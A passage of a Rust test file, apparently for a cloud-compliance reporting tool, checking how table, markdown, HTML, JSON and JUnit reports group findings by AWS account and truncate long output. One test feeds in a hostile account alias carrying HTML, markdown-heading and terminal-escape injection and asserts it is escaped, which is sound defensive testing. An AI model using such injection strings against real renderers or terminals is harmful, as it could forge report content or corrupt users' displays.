    assert!(!text.contains("db-staging"), "waived only with --verbose");
    let verbose = table::render(&organisation("prod"), &VERBOSE);
    in_order(
        &verbose,
        &["Account Staging", "db-staging", "Account 333333333333"],
    );
}

#[test]
fn markdown_of_several_accounts_shows_one_group_each_failures_first() {
    let text = markdown::render(&organisation("prod"), markdown::DEFAULT_MAX_CHARS);
    in_order(
        &text,
        &[
            "## Account prod (111111111111)\n\n1 fail, 0 error, 0 waived, 1 pass.",
            "### Backup retention",
            "`db-prod` in eu-west-1",
            "## Account Staging (222222222222)\n\n0 fail, 0 error, 1 waived, 0 pass.",
            "### Could not be read",
            "denied by an SCP",
            "## Account 333333333333\n\n0 fail, 1 error, 0 waived, 0 pass.",
            &format!("**Not read: {NOT_ASSUMED}.**"),
            "could not check every `aws.rds.db_instance` in eu-west-1",
            "## Waived\n\n### Staging (222222222222)\n\n",
            "`db-staging`",
        ],
    );
    // Under a tight cap the accounts' failures stay and the waivers go.
    let cut = markdown::render(&organisation("prod"), 1_900);
    assert!(cut.chars().count() <= 1_900, "{cut}");
    assert!(
        cut.contains("`db-prod`") && cut.contains("Not read: "),
        "{cut}"
    );
    assert!(
        !cut.contains("## Waived") && cut.contains("not shown"),
        "{cut}"
    );
}

#[test]
fn a_long_table_lists_the_worst_results_and_says_how_many_it_left_out() {
    let report = large(5 * table::MAX_ROWS);
    assert!(report.summary.fail > table::MAX_ROWS);
    let text = table::render(&report, &PLAIN);
    let rows = text.lines().filter(|l| l.starts_with("│ fail")).count();
    assert_eq!(rows, table::MAX_ROWS, "failures first, up to the cap");
    assert!(
        !text.contains("│ waived"),
        "waivers come after the failures"
    );
    let left_out = report.summary.fail - table::MAX_ROWS;
    assert!(
        text.contains(&format!("… and {left_out} more results not shown here")),
        "{text}"
    );
    assert!(text.contains("--format json, --junit, --sarif, --csv"));

    let verbose = table::render(&report, &VERBOSE);
    let left_out = report.results.len() - table::MAX_ROWS;
    assert!(verbose.contains(&format!("… and {left_out} more results not shown here")));

    // Under the cap, no line: everything is listed.
    let small = large(table::MAX_ROWS);
    let text = table::render(&small, &VERBOSE);
    assert!(!text.contains("not shown"));
    assert_eq!(
        text.lines().filter(|l| l.starts_with("│ ")).count(),
        table::MAX_ROWS + 2 + 4,
        "every result, the two headers, and the four category rows"
    );
}

#[test]
fn html_of_several_accounts_shows_one_group_each() {
    let text = html::render(&organisation("prod"), &[], Default::default());
    in_order(
        &text,
        &[
            "<table id=\"by-account\">",
            "<th>prod (111111111111)</th><td class=\"n\">1</td>",
            "<th>333333333333</th>",
            NOT_ASSUMED,
            "<section id=\"checklist\">",
            "<h3 class=\"account\">Account prod (111111111111)</h3>",
            "<code>db-prod</code>",
            "<h3 class=\"account\">Account Staging (222222222222)</h3>",
            "<h4>Waived (1)</h4>",
            "<h4>Could not be read</h4>",
            "<h3 class=\"account\">Account 333333333333</h3>",
            &format!("<strong>Not read: {NOT_ASSUMED}.</strong>"),
        ],
    );
}

#[test]
fn one_account_is_not_grouped() {
    // Several listed accounts group; results of one account alone do not.
    let mut report = organisation("prod");
    report
        .results
        .retain(|f| f.resource.account == "111111111111");
    report.collection_errors.clear();
    report.source.accounts.truncate(1);
    report.summary = backstop::report::Summary::of(&report.results);
    assert!(!table::render(&report, &PLAIN).contains("Account "));
    let md = markdown::render(&report, markdown::DEFAULT_MAX_CHARS);
    assert!(!md.contains("## Account"), "{md}");
    assert!(!html::render(&report, &[], Default::default()).contains("by-account"));
}

#[test]
fn accounts_round_trip_through_json() {
    let report = organisation("prod");
    let text = json::render(&report);
    let value: serde_json::Value = serde_json::from_str(&text).unwrap();
    let accounts = value["source"]["accounts"].as_array().unwrap();
    assert_eq!(accounts.len(), 3);
    assert_eq!(accounts[0]["alias"], "prod");
    assert_eq!(accounts[2]["error"], NOT_ASSUMED);
    assert_eq!(Report::from_json(&text).unwrap(), report);
    // A single-account report has no `accounts` field at all.
    assert!(!json::render(&sample()).contains("\"accounts\""));
}

#[test]
fn a_hostile_account_alias_stays_inert() {
    let report = organisation(HOSTILE);
    for options in [PLAIN, VERBOSE] {
        let text = table::render(&report, &options);
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{7}'),
            "{text}"
        );
        assert!(
            text.contains(&format!("Account {HOSTILE_SHOWN} (111111111111): 1 fail")),
            "{text}"
        );
        assert!(!text.lines().any(|l| l.starts_with("# heading")), "{text}");
    }

    let md = markdown::render(&report, markdown::DEFAULT_MAX_CHARS);
    assert!(!md.contains('\u{1b}') && !md.contains('\u{7}'), "{md}");
    let escaped = r#"evil&lt;&amp;&gt;"'\|\*\_\[x\](y) \# headingred"#;
    assert!(
        md.contains(&format!("## Account {escaped} (111111111111)\n")),
        "{md}"
    );
    for line in md.lines().filter(|l| l.starts_with('#')) {
        assert!(
            ["## Account ", "### ", "## Waived", "## Could not be read"]
                .iter()
                .any(|h| line.starts_with(h)),
            "forged heading: {line}"
        );
    }
    assert!(!md.contains("<&>"), "{md}");

    let page = html::render(&report, &[], Default::default());
    assert!(!page.contains("evil<"), "raw alias in the page");
    assert!(
        page.contains("Account evil&lt;&amp;&gt;&quot;&#39;|*_[x](y) # headingred (111111111111)"),
        "{page}"
    );
}

#[test]
fn junit_of_an_empty_report_is_one_empty_testsuites() {
    let mut report = sample();
    report.results.clear();
    let xml = junit::render(&report, &[]);
    let doc = roxmltree::Document::parse(&xml).unwrap();
    assert_eq!(count(doc.root_element(), "tests"), 0);
    assert_eq!(
        doc.root_element()
            .children()
            .filter(|n| n.is_element())
            .count(),
        0
    );
    assert!(xml.ends_with("\">\n</testsuites>\n"), "{xml}");
}
